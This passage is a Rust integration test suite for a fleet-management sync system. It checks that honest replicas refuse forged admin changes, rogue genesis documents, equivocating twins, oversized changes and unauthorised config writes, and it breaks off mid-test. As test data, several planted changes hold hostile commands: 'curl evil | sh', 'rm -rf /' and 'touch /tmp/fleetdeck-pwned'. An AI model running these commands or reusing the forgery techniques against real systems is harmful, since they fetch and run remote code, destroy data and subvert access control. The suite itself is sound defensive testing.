//! Attacks on the fleet document from inside the fleet (issue 11): real
//! engines on loopback; a captured replica is driven with raw changes
//! (`Replica` and hand-built automerge changes), bypassing `ops`. For each
//! attack: every honest replica refuses it, nothing of it is applied, and
//! the honest replicas still converge and keep working (an honest edit made
//! afterwards spreads).
//!
//! Revocation and signed health registers are covered elsewhere.

mod common;

use std::path::Path;
use std::sync::{Mutex, Once};
use std::time::Duration;

use automerge::transaction::Transactable;
use automerge::{ActorId, AutoCommit, Change, ChangeHash, ObjType, ReadDoc};
use common::*;
use fleetdeck_store::config::ConfigPath;
use fleetdeck_store::document::{CommandRecord, FleetDoc, FreezeRecord, SiteRecord};
use fleetdeck_store::identity::Identity;
use fleetdeck_store::replica::{SignedChange, load_or_create_identity};
use fleetdeck_store::rollout::RolloutSpec;
use fleetdeck_store::sign::Sig;
use fleetdeck_store::{MemberKey, NodeId, Replica, Role, SiteId, now_ms};
use fleetdeck_sync::Engine;
use fleetdeck_sync::bundle;
use serde_json::{Value, json};

// ---- what the honest replicas refused ---------------------------------------

/// Every change id the gate refused in this process, with why (from the
/// gate's `refused a change` warning).
static REFUSED: Mutex<Vec<(String, String)>> = Mutex::new(Vec::new());

struct Capture;

#[derive(Default)]
struct Fields {
    change: Option<String>,
    message: Option<String>,
}

impl tracing::field::Visit for Fields {
    fn record_debug(&mut self, field: &tracing::field::Field, value: &dyn std::fmt::Debug) {
        match field.name() {
            "change" => self.change = Some(format!("{value:?}")),
            "message" => self.message = Some(format!("{value:?}")),
            _ => {}
        }
    }
}

impl tracing::Subscriber for Capture {
    fn enabled(&self, m: &tracing::Metadata<'_>) -> bool {
        *m.level() <= tracing::Level::WARN
    }
    fn max_level_hint(&self) -> Option<tracing::level_filters::LevelFilter> {
        Some(tracing::level_filters::LevelFilter::WARN)
    }
    fn new_span(&self, _: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        tracing::span::Id::from_u64(1)
    }
    fn record(&self, _: &tracing::span::Id, _: &tracing::span::Record<'_>) {}
    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}
    fn event(&self, e: &tracing::Event<'_>) {
        let mut f = Fields::default();
        e.record(&mut f);
        if let (Some(change), Some(msg)) = (f.change, f.message)
            && msg.starts_with("refused a change")
        {
            REFUSED.lock().unwrap().push((change, msg));
        }
    }
    fn enter(&self, _: &tracing::span::Id) {}
    fn exit(&self, _: &tracing::span::Id) {}
}

fn capture_refusals() {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        let _ = tracing::subscriber::set_global_default(Capture);
    });
}

/// Why the gate refused `hash`, once it has.
fn refusal(hash: &ChangeHash) -> Option<String> {
    let h = hash.to_string();
    REFUSED
        .lock()
        .unwrap()
        .iter()
        .find(|(c, _)| *c == h)
        .map(|(_, why)| why.clone())
}

// ---- building attacks -------------------------------------------------------

/// A change by `actor`, made on the document of `r` as of `base`, with
/// `edit` (FleetDoc's writes or raw automerge ones): never through `ops`.
fn raw_change(
    r: &mut Replica,
    base: &[ChangeHash],
    actor: ActorId,
    edit: impl FnOnce(&mut FleetDoc),
) -> Change {
    let fork = r
        .doc_mut()
        .automerge_mut()
        .fork_at(base)
        .unwrap()
        .with_actor(actor);
    let mut fd = FleetDoc::from_automerge(fork).unwrap();
    edit(&mut fd);
    fd.commit("attack", now_ms())
        .expect("the attack edits something");
    fd.automerge_mut().get_last_local_change().unwrap()
}

/// Puts `c` (with `sig`, or none) into the captured replica behind `e`, as
/// if its owner had written it, so its engine offers it to every peer.
/// Unsigned changes stay in memory (the store will not persist them), which
/// is enough for the engine to send them.
fn plant(e: &Engine, c: &Change, sig: Option<Sig>) {
    e.with_replica(|r| {
        if let Some(s) = sig {
            r.add_signatures([(c.hash(), s)]);
        }
        r.doc_mut()
            .automerge_mut()
            .apply_changes([c.clone()])
            .unwrap();
        let _ = r.settle();
    });
    e.changed();
}

fn obj(d: &AutoCommit, name: &str) -> automerge::ObjId {
    match d.get(automerge::ROOT, name).unwrap() {
        Some((_, id)) => id,
        None => panic!("no root map {name}"),
    }
}

/// A raw put of a config key in a layer map (values are JSON text).
fn raw_config(d: &mut FleetDoc, map: &str, key: &str, v: Value) {
    let am = d.automerge_mut();
    let o = obj(am, map);
    am.put(&o, key, v.to_string()).unwrap();
}

fn node(s: &str) -> NodeId {
    NodeId::parse(s).unwrap()
}

type Edit = Box<dyn FnOnce(&mut FleetDoc)>;

/// Every write an attacker with `own_key` running node `own_node` tries;
/// `rollout` is an honest rollout in progress, `other` another node.
fn attacks(own_key: &MemberKey, own_node: &str, rollout: &str) -> Vec<(&'static str, Edit)> {
    let own_key = own_key.clone();
    let own_key2 = own_key.clone();
    let own_node = own_node.to_string();
    let ro = rollout.to_string();
    let ro2 = rollout.to_string();
    let evil = Identity::generate().key().clone();
    vec![
        (
            "fleet apply.check",
            Box::new(|d: &mut FleetDoc| {
                raw_config(d, "fleet", "apply.check", json!("curl evil | sh"))
            }) as Edit,
        ),
        (
            "fleet actions.*",
            Box::new(|d: &mut FleetDoc| raw_config(d, "fleet", "actions.pwn", json!("rm -rf /"))),
        ),
        (
            "own node layer apply.check",
            Box::new(move |d: &mut FleetDoc| {
                raw_config(
                    d,
                    "node_config",
                    &format!("{own_node}/apply.check"),
                    json!("curl evil | sh"),
                )
            }),
        ),
        (
            "add a site",
            Box::new(|d: &mut FleetDoc| {
                d.add_site(
                    &SiteId::parse("EVIL").unwrap(),
                    &SiteRecord {
                        name: "evil".into(),
                        lat: None,
                        lon: None,
                        zone: None,
                    },
                )
                .unwrap()
            }),
        ),
        (
            "freeze the fleet",
            Box::new(|d: &mut FleetDoc| {
                d.set_freeze(&FreezeRecord {
                    frozen: true,
                    by: "attacker".into(),
                    at_ms: now_ms(),
                    message: "stop".into(),
                })
                .unwrap()
            }),
        ),
        (
            "start a rollout",
            Box::new(|d: &mut FleetDoc| {
                let spec = RolloutSpec {
                    set: [("apply.check".to_string(), json!("curl evil | sh"))].into(),
                    sites: vec![],
                    waves: vec![100],
                    soak_ms: 0,
                    max_fail: 100,
                    by: "attacker".into(),
                    at_ms: now_ms(),
                };
                d.add_rollout("evil-rollout", &spec).unwrap()
            }),
        ),
        (
            "start a plain rollout",
            Box::new(|d: &mut FleetDoc| {
                let spec = RolloutSpec {
                    set: [("retention.days".to_string(), json!(1))].into(),
                    sites: vec![],
                    waves: vec![100],
                    soak_ms: 0,
                    max_fail: 100,
                    by: "attacker".into(),
                    at_ms: now_ms(),
                };
                d.add_rollout("evil-plain", &spec).unwrap()
            }),
        ),
        (
            "abort a rollout",
            Box::new(move |d: &mut FleetDoc| {
                d.rollout_event(&ro, "abort", now_ms(), None).unwrap()
            }),
        ),
        (
            "resume a rollout",
            Box::new(move |d: &mut FleetDoc| {
                d.rollout_event(&ro2, "resume", now_ms(), None).unwrap()
            }),
        ),
        (
            "ack an alert",
            Box::new(|d: &mut FleetDoc| {
                d.put_ack(
                    "node-down/n2",
                    &fleetdeck_store::alerts::Ack {
                        by: "attacker".into(),
                        at_ms: now_ms(),
                        until_ms: None,
                        since_ms: None,
                    },
                )
                .unwrap()
            }),
        ),
        (
            "resume safe mode",
            Box::new(|d: &mut FleetDoc| d.resume_node(&node("n2"), now_ms()).unwrap()),
        ),
        (
            "unbind another node",
            Box::new(|d: &mut FleetDoc| d.unbind_node(&node("n2")).unwrap()),
        ),
        (
            "run a command",
            Box::new(|d: &mut FleetDoc| {
                d.add_command(
                    "evil-cmd",
                    &CommandRecord {
                        action: "restart".into(),
                        target: "all".into(),
                        by: "attacker".into(),
                        at_ms: now_ms(),
                    },
                )
                .unwrap()
            }),
        ),
        (
            "enroll a member as admin",
            Box::new(move |d: &mut FleetDoc| {
                d.put_member(&evil, "evil", Role::Admin, now_ms()).unwrap()
            }),
        ),
        (
            "change its own role to admin",
            Box::new(move |d: &mut FleetDoc| {
                d.put_member(&own_key, "me", Role::Admin, now_ms()).unwrap()
            }),
        ),
        (
            "its own role, raw",
            Box::new(move |d: &mut FleetDoc| {
                let am = d.automerge_mut();
                let members = obj(am, "members");
                let rec = match am.get(&members, own_key2.as_str()).unwrap() {
                    Some((_, id)) => id,
                    None => panic!("not a member"),
                };
                am.put(&rec, "role", "admin").unwrap();
            }),
        ),
    ]
}

/// The honest view that no attack may change.
fn assert_untouched(e: &Engine, who: &str, admin: &MemberKey, attacker: &MemberKey, own: Role) {
    e.with_replica(|r| {
        let st = r.state();
        for key in ["apply.check", "actions.pwn"] {
            assert!(
                !st.fleet.contains_key(&ConfigPath::parse(key).unwrap()),
                "{who}: fleet {key} was applied"
            );
        }
        for n in st.nodes.keys() {
            let eff = st.effective_node(n).unwrap();
            let check = ConfigPath::parse("apply.check").unwrap();
            assert!(
                eff.get(&check).is_none(),
                "{who}: apply.check reached node {n}"
            );
        }
        assert!(
            !st.sites.contains_key(&SiteId::parse("EVIL").unwrap()),
            "{who}: site added"
        );
        assert!(
            !st.freeze.as_ref().is_some_and(|f| f.frozen),
            "{who}: fleet frozen"
        );
        assert!(
            st.rollouts.iter().all(|r| !r.id.starts_with("evil")),
            "{who}: rollout started"
        );
        assert!(
            st.rollouts.iter().all(|r| r.events.aborted.is_none()),
            "{who}: rollout aborted"
        );
        assert!(st.acks.is_empty(), "{who}: alert acked");
        assert!(st.commands.is_empty(), "{who}: command recorded");
        let n2 = &st.nodes[&node("n2")];
        assert!(n2.key.is_some(), "{who}: n2 unbound");
        assert!(n2.resume_ms.is_none(), "{who}: n2 resumed");
        assert_eq!(st.members[admin].role, Role::Admin, "{who}: admin demoted");
        assert_eq!(
            st.members[attacker].role, own,
            "{who}: attacker's role changed"
        );
        assert_eq!(
            st.members
                .values()
                .filter(|m| m.role == Role::Admin)
                .count(),
            1,
            "{who}: a new admin"
        );
    });
}

/// Waits until every engine in `honest` holds the same heads and an edit by
/// `editor` (an admin or operator among them) has reached all of them.
async fn honest_edit_spreads(honest: &[&Engine], editor: &Engine, key: &str) {
    let v = json!(now_ms());
    set(editor, key, v.clone());
    let ok = wait_for(Duration::from_secs(30), || {
        honest.iter().all(|e| get(e, key) == Some(v.clone()))
    })
    .await;
    assert!(
        ok,
        "the honest edit {key} did not reach every honest replica"
    );
    let ok = wait_for(Duration::from_secs(20), || converged(honest)).await;
    assert!(ok, "the honest replicas did not converge");
}

fn holds(e: &Engine, h: &ChangeHash) -> bool {
    e.with_replica(|r| r.holds(h))
}

/// Waits for the gate to refuse `c`, then checks no honest replica holds it.
async fn expect_refused(name: &str, c: &ChangeHash, honest: &[&Engine]) -> String {
    let seen = wait_for(Duration::from_secs(30), || refusal(c).is_some()).await;
    assert!(seen, "attack '{name}' ({c}) was never refused");
    for e in honest {
        assert!(
            !holds(e, c),
            "attack '{name}' was accepted by an honest replica"
        );
    }
    refusal(c).unwrap()
}

/// Replica 1 is a captured node (role `attacker_role`), 2 a node, 3 an
/// operator; 0 the admin. Returns the fleet and a rollout id in progress.
async fn setup(attacker_role: Role) -> (Fleet, String) {
    capture_refusals();
    let f = fleet_as(4, move |i| match i {
        1 => attacker_role,
        3 => Role::Operator,
        _ => Role::Node,
    })
    .await;
    // An honest rollout in progress, to abort/resume.
    let rollout = "honest-ro".to_string();
    f.engines[0].with_replica(|r| {
        let spec = RolloutSpec {
            set: [("retention.days".to_string(), json!(3))].into(),
            sites: vec![],
            waves: vec![50, 100],
            soak_ms: 3_600_000,
            max_fail: 1,
            by: "admin".into(),
            at_ms: now_ms(),
        };
        r.change("rollout", |d, _| d.add_rollout(&rollout, &spec))
            .unwrap();
    });
    f.engines[0].changed();
    let all: Vec<&Engine> = f.engines.iter().collect();
    assert!(wait_for(Duration::from_secs(30), || converged(&all)).await);
    (f, rollout)
}

async fn run_member_attacks(attacker_role: Role) {
    let (f, rollout) = setup(attacker_role).await;
    let attacker = &f.engines[1];
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let base = attacker.with_replica(|r| r.heads());
    let mut planted = Vec::new();
    for (name, edit) in attacks(id.key(), "n1", &rollout) {
        // Each attack on its own actor from the same base, so each is
        // judged on its own (none waits behind another).
        let c = attacker.with_replica(|r| raw_change(r, &base, id.new_actor(), edit));
        let sig = id.sign_change(&c.hash());
        plant(attacker, &c, Some(sig));
        planted.push((name, c.hash()));
    }
    for (name, h) in &planted {
        let why = expect_refused(name, h, &honest).await;
        println!("{attacker_role:?} / {name}: {why}");
    }
    for (i, e) in honest.iter().enumerate() {
        assert_untouched(
            e,
            &format!("honest {i}"),
            &f.keys[0],
            &f.keys[1],
            attacker_role,
        );
    }
    honest_edit_spreads(&honest, &f.engines[3], "after.attack").await;
    for (i, e) in honest.iter().enumerate() {
        assert_untouched(
            e,
            &format!("honest {i}"),
            &f.keys[0],
            &f.keys[1],
            attacker_role,
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_captured_node_writes_programs_members_and_operator_actions_and_every_one_is_refused() {
    run_member_attacks(Role::Node).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_viewer_writes_programs_members_and_operator_actions_and_every_one_is_refused() {
    run_member_attacks(Role::Viewer).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_node_forging_the_admin_as_author_is_refused_signed_or_unsigned() {
    let (f, rollout) = setup(Role::Node).await;
    let attacker = &f.engines[1];
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let admin = f.keys[0].clone();
    let base = attacker.with_replica(|r| r.heads());
    // An actor id whose first 32 bytes are the admin's key.
    let forged = || {
        let mut b = admin.to_bytes().to_vec();
        b.extend_from_slice(&Identity::generate().key().to_bytes()[..16]);
        ActorId::from(b)
    };
    let mut planted = Vec::new();
    // (Writing the admin's own role again edits nothing.)
    let list: Vec<_> = attacks(&admin, "n1", &rollout)
        .into_iter()
        .filter(|(n, _)| *n != "its own role, raw")
        .collect();
    let (signed, unsigned): (Vec<_>, Vec<_>) =
        list.into_iter().enumerate().partition(|(i, _)| i % 2 == 0);
    for (_, (name, edit)) in signed {
        let c = attacker.with_replica(|r| raw_change(r, &base, forged(), edit));
        // Signed with the node's own key.
        plant(attacker, &c, Some(id.sign_change(&c.hash())));
        planted.push((name, c.hash(), "not signed by that key"));
    }
    // The forged admin change that enrolls a new admin, signed by the node.
    let evil = Identity::generate().key().clone();
    let evil2 = evil.clone();
    let c = attacker.with_replica(|r| {
        raw_change(r, &base, forged(), move |d| {
            d.put_member(&evil2, "evil", Role::Admin, now_ms()).unwrap()
        })
    });
    plant(attacker, &c, Some(id.sign_change(&c.hash())));
    planted.push((
        "enroll a new admin (signed by the node)",
        c.hash(),
        "not signed by that key",
    ));
    // Unsigned ones last: the captured store will not persist them, so
    // they only live in its memory (and go out with an empty signature).
    for (_, (name, edit)) in unsigned {
        let c = attacker.with_replica(|r| raw_change(r, &base, forged(), edit));
        plant(attacker, &c, None);
        planted.push((name, c.hash(), "no signature came with it"));
    }
    let evil3 = evil.clone();
    let c = attacker.with_replica(|r| {
        raw_change(r, &base, forged(), move |d| {
            d.put_member(&evil3, "evil", Role::Admin, now_ms()).unwrap()
        })
    });
    plant(attacker, &c, None);
    planted.push((
        "enroll a new admin (unsigned)",
        c.hash(),
        "no signature came with it",
    ));
    for (name, h, expect) in &planted {
        let why = expect_refused(name, h, &honest).await;
        println!("forged / {name}: {why}");
        assert!(
            why.contains(expect),
            "{name}: refused for another reason: {why}"
        );
    }
    for e in &honest {
        assert!(e.with_replica(|r| !r.state().members.contains_key(&evil)));
        assert_untouched(e, "honest", &admin, &f.keys[1], Role::Node);
    }
    honest_edit_spreads(&honest, &f.engines[0], "after.forgery").await;
}

// ---- bundles by hand --------------------------------------------------------

/// A bundle holding `base` and `extra` (each with its signature, or
/// none), as an attacker's own copy of fleetdeck would write it: a scratch
/// replica from `base` that takes `extra` unchecked, then exported.
fn write_bundle(path: &Path, base: Vec<SignedChange>, extra: &[(&Change, Option<Sig>)]) {
    let scratch = path.with_extension("scratch");
    let mut r = Replica::init_from_changes(&scratch, base).unwrap();
    for (c, sig) in extra {
        if let Some(s) = sig {
            r.add_signatures([(c.hash(), *s)]);
        }
        r.doc_mut()
            .automerge_mut()
            .apply_changes([(*c).clone()])
            .unwrap();
    }
    bundle::export(&mut r, path).unwrap();
}

fn all_changes(e: &Engine) -> Vec<SignedChange> {
    e.with_replica(|r| r.changes_after(&[]))
}

/// A change with no dependencies that makes the fleet's root maps again,
/// with `author` enrolled as the only admin and a program in the fleet
/// defaults: what someone holding nothing but an invite token (fleet id,
/// admin key) can write. `pad` meta keys come first so its maps' op ids
/// are higher than the real genesis's (they win automerge's conflict).
fn rogue_genesis(fleet_id: &str, actor: ActorId, author: &MemberKey, pad: usize) -> Change {
    let mut d = AutoCommit::new().with_actor(actor);
    let meta = d.put_object(automerge::ROOT, "meta", ObjType::Map).unwrap();
    for i in 0..pad {
        d.put(&meta, format!("pad{i:04}"), i as i64).unwrap();
    }
    d.put(&meta, "format", 1).unwrap();
    d.put(&meta, "fleet_id", fleet_id).unwrap();
    d.put(&meta, "name", "owned").unwrap();
    d.put(&meta, "created_ms", now_ms()).unwrap();
    let mut made = Vec::new();
    for name in [
        "fleet",
        "site_config",
        "node_config",
        "sites",
        "nodes",
        "members",
        "acks",
        "freeze",
        "commands",
        "command_results",
        "rollouts",
        "rollout_events",
    ] {
        made.push((
            name,
            d.put_object(automerge::ROOT, name, ObjType::Map).unwrap(),
        ));
    }
    let fleet = made[0].1.clone();
    d.put(&fleet, "apply.check", "\"touch /tmp/fleetdeck-pwned\"")
        .unwrap();
    let members = made[5].1.clone();
    let rec = d
        .put_object(&members, author.as_str(), ObjType::Map)
        .unwrap();
    d.put(&rec, "name", "owner").unwrap();
    d.put(&rec, "role", "admin").unwrap();
    d.put(&rec, "added_ms", now_ms()).unwrap();
    d.put_object(&rec, "addrs", ObjType::List).unwrap();
    d.commit();
    d.get_last_local_change().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_token_holder_forging_the_admin_in_a_bundle_is_refused() {
    let (f, _) = setup(Role::Node).await;
    let honest: Vec<&Engine> = f.engines.iter().collect();
    let fleet_id = f.engines[0].with_replica(|r| r.state().fleet_id.clone());
    let admin = f.keys[0].clone();
    // What the expired token gives: fleet id, admin key. Nothing else.
    let mallory = Identity::generate();
    let forged = |pad, suffix| {
        let mut b = admin.to_bytes().to_vec();
        b.extend_from_slice(&[suffix; 16]);
        rogue_genesis(&fleet_id, ActorId::from(b), &admin, pad)
    };
    let a = forged(0, 0xff);
    let b = forged(500, 0xfe);
    let file = f.tmp.path().join("forged.fdb");
    write_bundle(
        &file,
        all_changes(&f.engines[0]),
        &[(&a, Some(mallory.sign_change(&a.hash()))), (&b, None)],
    );
    for (i, e) in f.engines.iter().enumerate().take(3) {
        let before = e.with_replica(|r| r.heads());
        let imp = e.with_replica(|r| bundle::import(r, &file)).unwrap();
        println!("import at {i}: {:?}", imp.refused);
        assert_eq!((imp.changes_new, imp.changes_refused), (0, 2), "{imp:?}");
        assert!(
            imp.refused
                .iter()
                .any(|r| r.contains("not signed by that key"))
        );
        assert!(imp.refused.iter().any(|r| r.contains("no signature")));
        assert_eq!(e.with_replica(|r| r.heads()), before);
        assert!(!holds(e, &a.hash()) && !holds(e, &b.hash()));
    }
    honest_edit_spreads(&honest, &f.engines[0], "after.bundle").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]

async fn an_outsider_with_an_expired_token_cannot_replace_the_members_by_a_second_genesis() {
    let (f, _) = setup(Role::Node).await;
    let all: Vec<&Engine> = f.engines.iter().collect();
    let fleet_id = f.engines[0].with_replica(|r| r.state().fleet_id.clone());
    let admin = f.keys[0].clone();
    // An outsider signs with its own key: the signature is valid, the
    // author is no member.
    let mallory = Identity::generate();
    let g = rogue_genesis(&fleet_id, mallory.new_actor(), mallory.key(), 500);
    let sig = mallory.sign_change(&g.hash());
    let file = f.tmp.path().join("genesis.fdb");
    write_bundle(&file, all_changes(&f.engines[0]), &[(&g, Some(sig))]);
    // An operator imports it on the admin's replica.
    let imp = f.engines[0]
        .with_replica(|r| bundle::import(r, &file))
        .unwrap();
    f.engines[0].changed();
    println!("import: {imp:?}");
    let held = holds(&f.engines[0], &g.hash());
    let (admin_role, mallory_role, check) = f.engines[0].with_replica(|r| {
        let st = r.state();
        (
            st.members.get(&admin).map(|m| m.role),
            st.members.get(mallory.key()).map(|m| m.role),
            st.fleet
                .get(&ConfigPath::parse("apply.check").unwrap())
                .map(|v| (**v).clone()),
        )
    });
    println!(
        "after import: genesis held={held}, admin={admin_role:?}, mallory={mallory_role:?}, fleet apply.check={check:?}"
    );
    assert_eq!(
        imp.changes_new, 0,
        "the second genesis was admitted: {imp:?}"
    );
    assert!(!held);
    assert_eq!(admin_role, Some(Role::Admin));
    assert_eq!(mallory_role, None);
    assert_eq!(check, None);
    honest_edit_spreads(&all, &f.engines[0], "after.genesis").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]

async fn a_captured_node_cannot_replace_the_members_by_a_second_genesis_over_sync() {
    let (f, _) = setup(Role::Node).await;
    let attacker = &f.engines[1];
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let fleet_id = f.engines[0].with_replica(|r| r.state().fleet_id.clone());
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let g = rogue_genesis(&fleet_id, id.new_actor(), id.key(), 500);
    plant(attacker, &g, Some(id.sign_change(&g.hash())));
    // Give it every chance to arrive: the captured node is connected.
    let reached = wait_for(Duration::from_secs(15), || {
        refusal(&g.hash()).is_some() || honest.iter().any(|e| holds(e, &g.hash()))
    })
    .await;
    assert!(reached, "the rogue genesis was neither refused nor taken");
    let report: Vec<String> = honest
        .iter()
        .map(|e| {
            e.with_replica(|r| {
                let held = r.holds(&g.hash());
                let st = r.state();
                format!(
                    "held={} admin={:?} node1={:?}",
                    held,
                    st.members.get(&f.keys[0]).map(|m| m.role),
                    st.members.get(id.key()).map(|m| m.role)
                )
            })
        })
        .collect();
    println!("after the rogue genesis: {report:?}");
    for e in &honest {
        assert!(!holds(e, &g.hash()), "the second genesis was admitted");
        assert_untouched(e, "honest", &f.keys[0], &f.keys[1], Role::Node);
    }
    honest_edit_spreads(&honest, &f.engines[0], "after.genesis").await;
}

// ---- equivocation ---------------------------------------------------------

/// Two changes by the captured node with one (actor, seq), each writing its
/// own addrs (which a node may write): `a` and `b`.
fn twins(e: &Engine, id: &Identity, key: &MemberKey) -> (SignedChange, SignedChange) {
    let actor = id.new_actor();
    let base = e.with_replica(|r| r.heads());
    let mk = |addr: &'static str| {
        let k = key.clone();
        let c = e.with_replica(|r| {
            raw_change(r, &base, actor.clone(), move |d| {
                d.set_member_addrs(&k, &[addr.to_string()]).unwrap()
            })
        });
        let sig = Some(id.sign_change(&c.hash()));
        SignedChange { change: c, sig }
    };
    let a = mk("10.0.0.1:1");
    let b = mk("10.0.0.2:2");
    assert_eq!(
        (a.change.actor_id(), a.change.seq()),
        (b.change.actor_id(), b.change.seq())
    );
    assert_ne!(a.change.hash(), b.change.hash());
    (a, b)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_equivocation_arriving_by_sync_and_by_bundle_at_one_replica_is_refused() {
    let (f, _) = setup(Role::Node).await;
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let (a, b) = twins(&f.engines[1], &id, &f.keys[1]);
    let base = all_changes(&f.engines[1]);
    plant(&f.engines[1], &a.change, a.sig);
    assert!(
        wait_for(Duration::from_secs(20), || honest
            .iter()
            .all(|e| holds(e, &a.change.hash())))
        .await,
        "the first twin (allowed) spreads"
    );
    let file = f.tmp.path().join("twin.fdb");
    write_bundle(&file, base, &[(&b.change, b.sig)]);
    let imp = f.engines[0]
        .with_replica(|r| bundle::import(r, &file))
        .unwrap();
    println!("twin import: {imp:?}");
    assert_eq!((imp.changes_new, imp.changes_refused), (0, 1));
    assert!(imp.refused[0].contains("equivocated"), "{imp:?}");
    // Readable on disk too.
    let r = Replica::open(&dir(&f.tmp, 0)).unwrap();
    assert!(r.warnings().is_empty(), "{:?}", r.warnings());
    drop(r);
    honest_edit_spreads(&honest, &f.engines[3], "after.twin").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "finding: twins of one (actor, seq) taken by two honest replicas (one by sync, one by bundle) split the fleet for good: each refuses the other's twin and every later change waits behind it"]
async fn an_equivocation_split_between_two_replicas_still_converges() {
    let (f, _) = setup(Role::Node).await;
    // Replica 3 (the operator) is away: it imports the bundle while the
    // others get the other twin by sync.
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let (a, b) = twins(&f.engines[1], &id, &f.keys[1]);
    let base = all_changes(&f.engines[1]);
    f.faults.isolate(&f.keys[3]);
    plant(&f.engines[1], &a.change, a.sig);
    assert!(
        wait_for(Duration::from_secs(20), || holds(
            &f.engines[0],
            &a.change.hash()
        ) && holds(
            &f.engines[2],
            &a.change.hash()
        ))
        .await
    );
    let file = f.tmp.path().join("twin.fdb");
    write_bundle(&file, base, &[(&b.change, b.sig)]);
    let imp = f.engines[3]
        .with_replica(|r| bundle::import(r, &file))
        .unwrap();
    println!("twin import at the away replica: {imp:?}");
    f.faults.heal();
    // After healing, honest edits on both sides must reach everyone.
    let v0 = json!(now_ms());
    set(&f.engines[0], "from.admin", v0.clone());
    set(&f.engines[3], "from.operator", v0.clone());
    let ok = wait_for(Duration::from_secs(30), || {
        honest.iter().all(|e| {
            get(e, "from.admin") == Some(v0.clone()) && get(e, "from.operator") == Some(v0.clone())
        })
    })
    .await;
    let state: Vec<String> = honest
        .iter()
        .map(|e| {
            format!(
                "a={} b={} from.admin={:?} from.operator={:?}",
                holds(e, &a.change.hash()),
                holds(e, &b.change.hash()),
                get(e, "from.admin"),
                get(e, "from.operator")
            )
        })
        .collect();
    println!("after the split: {state:#?}");
    assert!(ok, "honest edits do not cross the equivocation: {state:#?}");
    assert!(wait_for(Duration::from_secs(10), || converged(&honest)).await);
}

// ---- size ------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_over_the_size_limits_is_refused_and_a_34_mb_value_does_not_stop_later_syncs() {
    let (f, _) = setup(Role::Node).await;
    let attacker = &f.engines[1];
    let honest: Vec<&Engine> = [0, 2, 3].iter().map(|&i| &f.engines[i]).collect();
    let id = load_or_create_identity(&dir(&f.tmp, 1)).unwrap();
    let base = attacker.with_replica(|r| r.heads());
    let seed = now_ms() as u64;
    println!("seed {seed}");
    // Incompressible filler (the limit is on the change's bytes).
    let filler = |n: usize, salt: u64| -> String {
        let mut x = seed ^ salt.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        (0..n)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                char::from(b'a' + (x % 26) as u8)
            })
            .collect()
    };
    // Over MAX_CHANGE_BYTES, each value under MAX_VALUE_BYTES (a member may
    // write its own addrs: only the size is wrong).
    let key = f.keys[1].clone();
    let parts: Vec<String> = (0..20).map(|i| filler(250 * 1024, i)).collect();
    let big = attacker.with_replica(|r| {
        raw_change(r, &base, id.new_actor(), move |d| {
            d.set_member_addrs(&key, &parts).unwrap()
        })
    });
    assert!(big.raw_bytes().len() > fleetdeck_store::rights::MAX_CHANGE_BYTES);
    plant(attacker, &big, Some(id.sign_change(&big.hash())));
    let why = expect_refused("change over MAX_CHANGE_BYTES", &big.hash(), &honest).await;
    println!("big change: {why}");
    assert!(why.contains("MAX_CHANGE_BYTES"), "{why}");
    // One value of 34 MB: its frame is over the wire limit.
    let key = f.keys[1].clone();
    let huge_value = filler(34 * 1000 * 1000, 99);
    let huge = attacker.with_replica(|r| {
        raw_change(r, &base, id.new_actor(), move |d| {
            d.set_member_addrs(&key, &[huge_value]).unwrap()
        })
    });
    plant(attacker, &huge, Some(id.sign_change(&huge.hash())));
    // It cannot arrive (the frame is refused); give it time to try.
    tokio::time::sleep(Duration::from_secs(3)).await;
    for e in &honest {
        assert!(!holds(e, &huge.hash()));
        assert!(!holds(e, &big.hash()));
    }
    honest_edit_spreads(&honest, &f.engines[0], "after.huge").await;
    honest_edit_spreads(&honest, &f.engines[3], "after.huge2").await;
}

// ---- storage ---------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bit_flipped_in_a_stored_change_is_quarantined_and_the_replica_heals_from_peers() {
    let (mut f, _) = setup(Role::Node).await;
    set(&f.engines[0], "before.flip", json!(1));
    let all: Vec<&Engine> = f.engines.iter().collect();
    assert!(
        wait_for(Duration::from_secs(20), || all.iter().all(|e| get(
            e,
            "before.flip"
        ) == Some(
            json!(1)
        )))
        .await
    );
    assert!(wait_for(Duration::from_secs(20), || converged(&all)).await);
    // Stop replica 2 and flip a bit in the last change it stored.
    let e2 = f.engines.remove(2);
    e2.shutdown().await;
    drop(e2);
    let d2 = dir(&f.tmp, 2);
    let seed = now_ms() as u64;
    println!("seed {seed}");
    let conn = rusqlite::Connection::open(d2.join("replica.db")).unwrap();
    let (row, mut data): (i64, Vec<u8>) = conn
        .query_row(
            "SELECT id, data FROM changes ORDER BY id DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
